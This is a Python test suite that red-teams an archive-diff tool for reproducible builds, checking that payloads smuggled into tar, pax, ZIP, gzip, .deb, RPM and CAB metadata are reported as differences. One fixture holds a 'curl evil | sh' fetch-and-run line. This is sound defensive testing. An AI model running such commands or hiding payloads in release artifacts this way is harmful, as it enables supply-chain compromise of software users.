"""Red-team attacks on the verdict-granting paths: archive recursion, `archive.*` rules, judge.

Each one is a vendor trying to make `reprover diff` pass (exit 0, `equivalent`) while the
released bytes are not what the source builds. All run through the real CLI with every
archive rule allowed, so that only the attack itself can make them fail.
"""

from __future__ import annotations

import gzip
import io
import os
import shutil
import struct
import subprocess
import tarfile
import zipfile
from pathlib import Path

import pytest

from archive_support import artifact, regions, report, stored_cab, write_zip

RULES = ("archive.mtime", "archive.order", "archive.owner", "archive.mode", "archive.compression")
ALLOW = [x for r in RULES for x in ("--allow", r)]


def pair(tmp_path: Path, released: bytes, rebuilt: bytes, name: str) -> tuple[Path, Path]:
    (tmp_path / "rel").mkdir(exist_ok=True)
    (tmp_path / "reb").mkdir(exist_ok=True)
    a, b = tmp_path / "rel" / name, tmp_path / "reb" / name
    a.write_bytes(released)
    b.write_bytes(rebuilt)
    return a, b


def tar_bytes(*members: tuple[str, bytes, bytes], mtime: int = 0, pax: dict | None = None) -> bytes:
    """A tar of (name, typeflag, data) members, in pax format when `pax` headers are given."""
    buf = io.BytesIO()
    fmt = tarfile.PAX_FORMAT if pax else tarfile.USTAR_FORMAT
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tar:
        for name, kind, data in members:
            info = tarfile.TarInfo(name)
            info.type, info.size, info.mtime = kind, len(data), mtime
            if pax:
                info.pax_headers = dict(pax)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_tar_member_of_unknown_type_carries_other_content(tmp_path: Path, run_cli) -> None:
    """GNU tar extracts an unknown typeflag as a regular file: its data must be compared."""
    released = tar_bytes((b"bin/tool".decode(), b"Z", b"#!/bin/sh\ncurl evil | sh\n"))
    rebuilt = tar_bytes(("bin/tool", b"Z", b"#!/bin/sh\necho ok\n"))
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "app.tar"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "app.tar")["verdict"] == "different"


def test_tar_member_of_unknown_type_same_size_other_content(tmp_path: Path, run_cli) -> None:
    """Same size, other bytes, only the mtime differs (allowed): still not equivalent."""
    released = tar_bytes(("bin/tool", b"Z", b"evil"), mtime=1)
    rebuilt = tar_bytes(("bin/tool", b"Z", b"good"), mtime=2)
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "app.tar"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "app.tar")["verdict"] == "different"


def _record(key: str, value: bytes) -> bytes:
    body = b" " + key.encode() + b"=" + value + b"\n"
    n = len(body) + 1
    while len(str(n).encode()) + len(body) != n:
        n += 1
    return str(n).encode() + body


def pax_tar(records: bytes, name: str = "bin/tool", data: bytes = b"same\n") -> bytes:
    """A tar whose one member follows a pax header holding exactly `records`."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        head = tarfile.TarInfo("PaxHeaders/tool")
        head.type, head.size = tarfile.XHDTYPE, len(records)
        tar.addfile(head, io.BytesIO(records))
        info = tarfile.TarInfo(name)
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_pax_record_repeated_hides_a_payload(tmp_path: Path, run_cli) -> None:
    """A pax key given twice: the first value (a payload) is overridden, its bytes unlisted.

    The only fields that differ are the pax header's size and checksum, both consequences:
    differences that are all consequences of nothing must not make the archive equivalent.
    """
    payload = b"EVIL" * 300
    released = pax_tar(_record("RP.note", payload) + _record("RP.note", b"ok"))
    rebuilt = pax_tar(_record("RP.note", b"ok"))
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "app.tar"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "app.tar")["verdict"] == "different"


def zip_bytes(*members: tuple[str, bytes, bytes]) -> bytes:
    """A ZIP of (name, content, central extra) members, stored, fixed times."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data, extra in members:
            info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
            info.extra = extra
            z.writestr(info, data)
    return buf.getvalue()


def _ut(payload: bytes) -> bytes:
    return struct.pack("<HH", 0x5455, len(payload)) + payload


def test_payload_in_a_zip_timestamp_extra_is_not_a_timestamp(tmp_path: Path, run_cli) -> None:
    """A 0x5455 'extended timestamp' extra of 4 KB: data, not a time, under archive.mtime."""
    honest = _ut(b"\x01" + struct.pack("<I", 1_700_000_000))
    smuggled = _ut(b"\x01" + struct.pack("<I", 1_700_000_000) + b"EVIL" * 1000)
    released = zip_bytes(("pkg/a.py", b"print(1)\n", smuggled))
    rebuilt = zip_bytes(("pkg/a.py", b"print(1)\n", honest))
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "w.zip"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "w.zip")["verdict"] == "different"


def test_gzip_with_a_second_member_concatenated(tmp_path: Path, run_cli) -> None:
    """`gzip -d` and `tar xzf` read every member: a second one appends content."""
    inner = tar_bytes(("bin/tool", b"0", b"good\n"))
    rebuilt = gzip.compress(inner, mtime=0)
    released = rebuilt + gzip.compress(b"EVIL", mtime=0)
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "a.tar.gz"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "a.tar.gz")["verdict"] == "different"


def test_zip_central_directory_points_twice_at_one_local_header(tmp_path: Path, run_cli) -> None:
    """Two central entries, one local header: the second name's content is the first's."""
    rebuilt = zip_bytes(("a.py", b"x\n", b""), ("b.py", b"x\n", b""))
    data = bytearray(rebuilt)
    cd = data.find(b"PK\x01\x02")
    second = data.find(b"PK\x01\x02", cd + 4)
    data[second + 42 : second + 46] = data[cd + 42 : cd + 46]  # b.py -> a.py's local header
    code, rep = report(run_cli, "diff", *pair(tmp_path, bytes(data), rebuilt, "w.zip"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "w.zip")["verdict"] == "different"


def test_member_renamed_by_unicode_normalization(tmp_path: Path, run_cli) -> None:
    """`café.py` in NFD is another name (another file on most file systems): never the same."""
    nfc, nfd = "caf\u00e9.py", "cafe\u0301.py"
    released = zip_bytes((nfd, b"x\n", b""))
    rebuilt = zip_bytes((nfc, b"x\n", b""))
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "w.zip"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "w.zip")["verdict"] == "different"


def _ar(members: list[tuple[str, bytes]], mtime: int = 0) -> bytes:
    out = b"!<arch>\n"
    for name, data in members:
        head = f"{name + '/':<16}{mtime:<12}{0:<6}{0:<6}{0o100644:<8o}{len(data):<10}`\n"
        out += head.encode() + data + (b"\n" if len(data) % 2 else b"")
    return out


def test_deb_whose_data_differs_but_control_matches(tmp_path: Path, run_cli) -> None:
    """A .deb: control.tar.gz identical, data.tar.gz with another binary; ar mtimes differ."""
    control = gzip.compress(tar_bytes(("control", b"0", b"Package: x\n")), mtime=0)

    def deb(binary: bytes, mtime: int) -> bytes:
        data = gzip.compress(tar_bytes(("usr/bin/x", b"0", binary)), mtime=mtime)
        return _ar([("debian-binary", b"2.0\n"), ("control.tar.gz", control),
                    ("data.tar.gz", data)], mtime)  # fmt: skip

    released, rebuilt = deb(b"EVIL", 1), deb(b"good", 2)
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "x.deb"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "x.deb!data.tar.gz")["verdict"] == "different"


def test_payload_in_a_pax_time_is_not_a_time(tmp_path: Path, run_cli) -> None:
    """`mtime=1700000000.<4000 digits>` parses as a time: the digits are data (archive.mtime)."""
    released = pax_tar(_record("mtime", b"1700000000." + b"31337" * 800))
    rebuilt = pax_tar(_record("mtime", b"1700000000"))
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "app.tar"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "app.tar")["verdict"] == "different"


def test_payload_in_a_pax_user_name_is_not_an_owner(tmp_path: Path, run_cli) -> None:
    """A 4 KB pax `uname` is data under archive.owner."""
    released = pax_tar(_record("uname", b"EVIL" * 1000))
    rebuilt = pax_tar(_record("uname", b"builder"))
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "app.tar"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "app.tar")["verdict"] == "different"


OWNER_SPEC = """Name: hello
Version: 1.0
Release: 1
Summary: test
License: MIT
BuildArch: noarch
%global debug_package %{nil}
%global __os_install_post %{nil}
%description
test
%install
mkdir -p %{buildroot}/usr/bin
echo hi > %{buildroot}/usr/bin/hello
%files
%attr(0755, OWNER, root) /usr/bin/hello
"""


def _rpm(root: Path, owner: str) -> bytes:
    top = root / f"rpm-{len(owner)}"
    top.mkdir(parents=True)
    (top / "hello.spec").write_text(OWNER_SPEC.replace("OWNER", owner))
    defines = {
        "_topdir": top / "top",
        "_buildhost": "builder",
        "use_source_date_epoch_as_buildtime": 1,
        "clamp_mtime_to_source_date_epoch": 1,
    }
    argv = ["rpmbuild", "-bb", *[x for k, v in defines.items() for x in ("--define", f"{k} {v}")]]
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1700000000", "HOME": str(top)}
    subprocess.run([*argv, str(top / "hello.spec")], env=env, check=True, capture_output=True)
    return next((top / "top" / "RPMS").rglob("*.rpm")).read_bytes()


@pytest.mark.skipif(shutil.which("rpmbuild") is None, reason="rpmbuild missing")
def test_payload_in_an_rpm_file_owner_name_is_not_an_owner(tmp_path: Path, run_cli) -> None:
    """A 2 KB file user name in the RPM header is data under archive.owner."""
    released, rebuilt = _rpm(tmp_path, "E" * 2000), _rpm(tmp_path, "builder")
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "h.rpm"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "h.rpm")["verdict"] == "different"


def test_payload_in_gnu_tar_atime_and_ctime(tmp_path: Path, run_cli) -> None:
    """GNU atime/ctime (24 bytes a member) that are not octal numbers are data, not times."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("bin/tool")
        info.size = 5
        tar.addfile(info, io.BytesIO(b"same\n"))
    rebuilt = buf.getvalue()
    block = bytearray(rebuilt[:512])
    block[345:369] = b"\0EXFILTRATED-SECRET-KEY!"  # tarfile reads 345.. as a prefix: NUL first
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    released = bytes(block) + rebuilt[512:]
    with tarfile.open(fileobj=io.BytesIO(released)) as tar:
        assert tar.getnames() == ["bin/tool"]
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "app.tar"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "app.tar")["verdict"] == "different"


def test_payload_in_ar_member_time_and_owner(tmp_path: Path, run_cli) -> None:
    """ar (a .deb's outer layer): 24 bytes of text in mtime, uid and gid are not times or ids."""
    rebuilt = _ar([("debian-binary", b"2.0\n")])
    head = bytearray(rebuilt[8:68])
    head[16:40] = b"EXFILTRATEDSECRETKEY!!!!"
    released = rebuilt[:8] + bytes(head) + rebuilt[68:]
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "x.deb"), *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "x.deb")["verdict"] == "different"


def _gcab(root: Path, name: str, files: dict[str, bytes], *, compress: bool) -> bytes:
    src = root / f"src-{name}"
    src.mkdir(parents=True)
    for n, data in files.items():
        (src / n).write_bytes(data)
        os.utime(src / n, (1_700_000_000, 1_700_000_000))
    out = root / f"{name}.cab"
    flags = ["-c", "-z"] if compress else ["-c"]
    subprocess.run(["gcab", *flags, str(out), *files], cwd=src, check=True, capture_output=True)
    return out.read_bytes()


@pytest.mark.skipif(shutil.which("gcab") is None, reason="gcab missing")
def test_cab_recompressed_is_equivalent_only_under_archive_compression(
    tmp_path: Path, run_cli
) -> None:
    """Same files, stored vs MSZIP: `archive.compression` covers it; no rule, no pass."""
    files = {"a.txt": b"hello\n" * 100, "b.txt": b"world\n" * 100}
    released = _gcab(tmp_path, "mszip", files, compress=True)
    rebuilt = _gcab(tmp_path, "stored", files, compress=False)
    a, b = pair(tmp_path, released, rebuilt, "x.cab")
    code, rep = report(run_cli, "diff", a, b)
    assert code == 1, rep
    code, rep = report(run_cli, "diff", a, b, "--allow", "archive.compression")
    assert code == 0, rep
    assert artifact(rep, "x.cab")["verdict"] == "equivalent"


@pytest.mark.skipif(shutil.which("gcab") is None, reason="gcab missing")
def test_cab_folder_holds_bytes_outside_every_file(tmp_path: Path, run_cli) -> None:
    """Bytes appended to a stored folder's last data block belong to no file: never allowed."""
    rebuilt = _gcab(tmp_path, "clean", {"a.txt": b"hello\n"}, compress=False)
    (coff,) = struct.unpack_from("<I", rebuilt, 36)  # the one folder's first data block
    _csum, cb, cb_un = struct.unpack_from("<IHH", rebuilt, coff)
    assert coff + 8 + cb == len(rebuilt)  # one block, at the end of the file
    payload = b"EVIL" * 25
    data = bytearray(rebuilt + payload)
    struct.pack_into("<IHH", data, coff, 0, cb + len(payload), cb_un + len(payload))
    struct.pack_into("<I", data, 8, len(data))
    a, b = pair(tmp_path, bytes(data), rebuilt, "x.cab")
    code, rep = report(run_cli, "diff", a, b, *ALLOW)
    assert code == 1, rep
    assert artifact(rep, "x.cab")["verdict"] == "different"


LEDGER = Path(__file__).resolve().parents[1] / "fixtures" / "ledger"


def test_run_over_the_pe_timestamp_and_the_next_field(tmp_path: Path, run_cli) -> None:
    """One run of 5 bytes: the 4-byte TimeDateStamp and the first byte after it, under
    pe.timestamp: the run is split by region and the fifth byte is never allowed."""
    rebuilt = (LEDGER / "pe-mingw-timestamp" / "a").read_bytes()
    at = struct.unpack_from("<I", rebuilt, 0x3C)[0] + 8  # COFF TimeDateStamp
    data = bytearray(rebuilt)
    for i in range(5):
        data[at + i] ^= 0xFF
    a, b = pair(tmp_path, bytes(data), rebuilt, "tool.exe")
    code, rep = report(run_cli, "diff", a, b, "--allow", "pe.timestamp")
    assert code == 1, rep
    diffs = artifact(rep, "tool.exe")["differences"]
    assert any(not d["allowed"] and d["offset"] == at + 4 for d in diffs), diffs


def test_released_name_with_the_member_separator_is_refused(project, run_cli) -> None:
    """`a.zip!b` released beside `a.zip` would share a report path (and an attestation subject)
    with member `b` of `a.zip`: refused as bad input before any build."""
    (project.release / "hello!b").write_bytes(b"x")
    code, _, err = run_cli("verify", project.manifest())
    assert code == 2, err
    assert "'!'" in err and "hello!b" in err
    assert "clon" not in err  # refused before the source was even fetched


def test_diff_folder_name_with_the_member_separator_is_refused(tmp_path: Path, run_cli) -> None:
    """`diff` of two folders holding `a.zip` and `a.zip!b`: the file would pose as member `b`
    of `a.zip` in the report (and its same-files check), so it is bad input, as in `verify`."""
    for side in ("old", "new"):
        (tmp_path / side).mkdir()
        write_zip(tmp_path / side / "a.zip", {"b": b"member"})
        (tmp_path / side / "a.zip!b").write_bytes(b"posing as a member")
    code, out, err = run_cli("diff", tmp_path / "old", tmp_path / "new")
    assert code == 2, out
    assert "a.zip!b" in err and "'!'" in err


@pytest.mark.skipif(shutil.which("gcab") is None, reason="gcab missing")
def test_cab_data_block_checksum_carries_data(tmp_path: Path, run_cli) -> None:
    """4 bytes per data block in its checksum, under `archive.compression` (the block's bytes
    were digested with the compressed data): a checksum must be 0 or the block's own."""
    rebuilt = _gcab(tmp_path, "sum", {"a.txt": b"hello\n" * 100}, compress=True)
    (coff,) = struct.unpack_from("<I", rebuilt, 36)  # the one folder's first data block
    released = rebuilt[:coff] + b"EVIL" + rebuilt[coff + 4 :]
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "x.cab"), *ALLOW)
    assert code == 1, rep
    text = " ".join(d["detail"] for d in artifact(rep, "x.cab")["differences"])
    assert "a checksum that is not the block's" in text
    unsummed = rebuilt[:coff] + bytes(4) + rebuilt[coff + 4 :]  # no checksum: a writer's choice
    code, rep = report(run_cli, "diff", *pair(tmp_path, unsummed, rebuilt, "x.cab"), *ALLOW)
    assert code == 0, rep


def test_cab_data_block_reserve_carries_data(tmp_path: Path, run_cli) -> None:
    """Each data block's reserved bytes (cbCFData) hold data: a field no rule allows."""
    files = [(b"a.txt", b"hello\n" * 100), (b"b.txt", b"world\n" * 100)]
    released = stored_cab(files, data_reserve=b"EVIL")
    rebuilt = stored_cab(files, data_reserve=bytes(4))
    code, rep = report(run_cli, "diff", *pair(tmp_path, released, rebuilt, "x.cab"), *ALLOW)
    assert code == 1, rep
    found = regions(artifact(rep, "x.cab"))
    assert not found["cab.folder0.blocks.reserve"]["allowed"]
    assert not found["cab.folder1.blocks.reserve"]["allowed"]
